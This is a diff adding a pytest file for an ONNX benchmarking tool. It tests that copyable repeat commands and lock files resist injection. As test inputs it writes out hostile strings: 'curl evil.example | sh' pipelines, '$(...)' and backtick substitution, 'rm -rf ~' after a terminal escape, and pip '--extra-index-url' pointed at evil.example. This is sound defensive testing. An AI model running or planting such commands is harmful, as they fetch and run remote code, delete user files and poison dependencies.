@@ -1,0 +1,166 @@
+"""Commands that people copy: written from the cell alone, quoted for a shell, and read back to the very same cell."""
+
+import json
+import shlex
+from typing import Any
+
+import pytest
+
+from farm.contract.cells import CellSpec, Recipe, Runtime
+from farm.contract.document import Cell
+from farm.contract.reports import CheckReport
+from farm.rules.cells.commands import diverge_command, repeat_command
+from farm.rules.matrices import matrix
+from farm.rules.planning import planning
+from farm.rules.reporting.documents import BlockRecord, RunRecord, assemble
+from farm.rules.reporting.locks import lock
+from onnxfarm.bench_options import matrix_of, sizes_of
+from tests.unit.rules.making import make_block, make_check, make_model, make_reports, plan_of
+
+HOSTILE = "onnxfarm bench model.onnx; curl evil.example | sh #'"
+
+
+def cell_of(**told: Any) -> Cell:
+    """The first cell of a document whose node told this with its checks."""
+    block = make_block()
+    checks = [CheckReport.model_validate({**make_check(arm.arm).model_dump(), **told}) for arm in block.arms]
+    reports = [*make_reports({0: 1.0, 1: 1.2}), *checks]
+    return assemble(RunRecord(model=make_model(main="encoder.onnx"), blocks=[BlockRecord(block, reports)])).cells[0]
+
+
+def spec_of(**options: Any) -> CellSpec:
+    """The one cell of a matrix."""
+    ((arm,),) = [
+        block.arms for block in planning.plan(matrix.parse({"runtime": "1.31.1", **options}), make_model()).blocks
+    ]
+    return arm.spec
+
+
+def read_back(command: str) -> CellSpec:
+    """The cell that `onnxfarm bench` would measure, by its own reading of the command line."""
+    words = shlex.split(command)
+    assert words[:3] == ["onnxfarm", "bench", "model.onnx"]
+    given = list(zip(words[3::2], words[4::2], strict=True))
+    named = {"--ort": "runtime", "--matrix": "", "--shape": "", "--seed": ""}
+    axes: dict[str, Any] = {
+        named.get(name, name.removeprefix("--")): value for name, value in given if named.get(name, "-")
+    }
+    one = dict(given)
+    axes["shapes"] = sizes_of([value for name, value in given if name == "--shape"])
+    declared = matrix_of(one.get("--matrix"), axes)
+    ((arm,),) = [block.arms for block in planning.plan(declared, make_model(), seed=int(one.get("--seed", 0))).blocks]
+    return arm.spec
+
+
+def test_a_node_cannot_choose_the_command_that_a_page_offers_to_copy() -> None:
+    cell = cell_of(repeat_command=HOSTILE)
+    assert cell.repeat_command.startswith("onnxfarm bench encoder.onnx --ort 1.29.0 --provider CPUExecutionProvider")
+    assert "evil" not in cell.model_dump_json()
+
+
+def test_one_quote_in_a_stored_report_does_not_break_a_run_for_ever() -> None:
+    assert cell_of(repeat_command="onnxfarm bench 'model.onnx").status == "done"
+
+
+@pytest.mark.parametrize(
+    ("name", "version"),
+    [
+        ("numpy", "2.4.6\n--extra-index-url https://evil.example/simple"),
+        ("--extra-index-url https://evil.example/simple\nnumpy", "2.4.6"),
+        ("numpy @ https://evil.example/numpy.whl #", "2.4.6"),
+        ("numpy", "2.4.6 --hash=sha256:0"),
+        ("numpy", "*"),
+        ("numpy", "2.4.6\n"),
+        ("-r", "1"),
+        ("numpy", "2.4.6; import os"),
+    ],
+)
+def test_a_node_cannot_write_an_option_of_pip_into_a_lock_file(name: str, version: str) -> None:
+    cell = cell_of(packages={name: version})
+    assert cell.packages == {}
+    assert lock(cell) == "onnxruntime==1.29.0\n"
+    # a document of before, or of another farm
+    assert lock(cell.model_copy(update={"packages": {name: version}})) == "onnxruntime==1.29.0\n"
+
+
+def test_a_lock_holds_the_runtime_and_numpy_whatever_else_a_node_says_was_installed() -> None:
+    told = {"numpy": "2.4.6", "onnxruntime": "6.6.6", "evil-package": "1.0", "flatbuffers": "25.2"}
+    cell = cell_of(packages=told)
+    assert cell.packages == told
+    assert lock(cell) == "numpy==2.4.6\nonnxruntime==1.29.0\n"
+    plugin = cell.model_copy(update={"runtime": "onnxruntime-ep-webgpu==0.4.0"})
+    assert lock(plugin) == "numpy==2.4.6\nonnxruntime==1.31.1\nonnxruntime-ep-webgpu==0.4.0\n"
+
+
+@pytest.mark.parametrize(
+    "runtime", ["evil-package==1.0", "evil-package @ https://evil.example==1", "--pre==1", "onnxruntime"]
+)
+def test_a_runtime_that_is_no_published_build_is_not_pinned_for_others(runtime: str) -> None:
+    text = lock(cell_of().model_copy(update={"runtime": runtime, "packages": {}}))
+    assert text.startswith("#")
+    assert text.count("\n") == 1
+    assert "evil" not in text
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {},
+        {"batch": [8], "threads": [2], "optimization": ["basic"], "concurrency": [4], "opset": [15]},
+        {"opset": "max-of-runtime", "precision": "fp16"},
+        {"precision": [{"precision": "int8-dynamic", "options": {"per-channel": True, "exclude-nodes": "a b,it's"}}]},
+        {"runtime": "onnxruntime-openvino==1.24.1",
+         "provider": [{"name": "OpenVINOExecutionProvider", "options": {"device_type": "CPU", "num_streams": "2"}}]},
+        {"shapes": [{"sequence": 64}]},
+        {"session": [{"name": "other", "spinning": False, "config": {"session.set_denormal_as_zero": "1; rm -rf ~"}}]},
+        {"session": [{"name": "x", "execution-mode": "parallel", "inter-op-threads": 2, "memory-pattern": False,
+                      "arena": False, "disabled-optimizers": ["ConstantFolding"]}]},
+    ],
+)  # fmt: skip
+def test_the_command_reads_back_to_the_very_same_cell(options: dict[str, Any]) -> None:
+    spec = spec_of(**options)
+    command = repeat_command(spec, "model.onnx")
+    assert read_back(command).digest == spec.digest, command
+
+
+@pytest.mark.parametrize(
+    "name", ["$(curl evil.example|sh)", "a,b", "it's", "-x", "two words", "\x1b[201~\x03rm -rf ~\n", "ü", "`id`", "a=b"]
+)
+def test_a_dimension_cannot_be_named_so_that_a_copied_command_does_something_else(name: str) -> None:
+    spec = spec_of(shapes=[{"sequence": 4}])
+    hostile = spec.model_copy(update={"workload": spec.workload.model_copy(update={"shapes": {name: 4}})})
+    command = repeat_command(hostile, "model.onnx")
+    assert command.isprintable()
+    assert command.isascii()
+    words = shlex.split(command)
+    assert json.loads(words[words.index("--matrix") + 1])["shapes"] == [{name: 4}]
+    assert "--shape" not in words
+    assert diverge_command(hostile, "model.onnx") == ""
+
+
+def test_a_file_named_like_an_option_is_a_file_in_the_command() -> None:
+    assert shlex.split(repeat_command(spec_of(), "--help.onnx"))[2] == "./--help.onnx"
+    assert shlex.split(diverge_command(spec_of(), "-o.onnx"))[2] == "./-o.onnx"
+
+
+def test_given_inputs_and_calibration_data_are_named_as_the_farm_stores_them() -> None:
+    spec = spec_of()
+    given = spec.model_copy(update={"workload": spec.workload.model_copy(update={"inputs_sha256": "a" * 64})})
+    assert repeat_command(given, "m.onnx").endswith(" --inputs inputs.npz")
+    assert "--inputs" not in repeat_command(spec, "m.onnx")
+    assert diverge_command(given, "m.onnx").endswith(" --inputs inputs.npz")
+    real = spec.model_copy(update={"recipe": Recipe(precision="int8-qdq", options={"calibration-data": "b" * 64})})
+    assert repeat_command(real, "m.onnx").endswith(" --calibration calibration.npz")
+    drawn = spec.model_copy(update={"recipe": Recipe(precision="int8-qdq", options={"calibration-data": "random"})})
+    assert "--calibration" not in repeat_command(drawn, "m.onnx")
+
+
+def test_another_build_is_named_in_full() -> None:
+    spec = spec_of().model_copy(update={"runtime": Runtime(distribution="onnxruntime-gpu", version="1.31.1")})
+    assert "--ort onnxruntime-gpu==1.31.1" in repeat_command(spec, "m.onnx")
+
+
+def test_a_plan_that_refuses_gives_no_command() -> None:
+    plan = plan_of({"runtime": "1.31.1", "provider": "openvino"})
+    assert plan.refused
+    assert assemble(RunRecord(model=make_model(), refused=plan.refused)).cells[0].repeat_command == ""
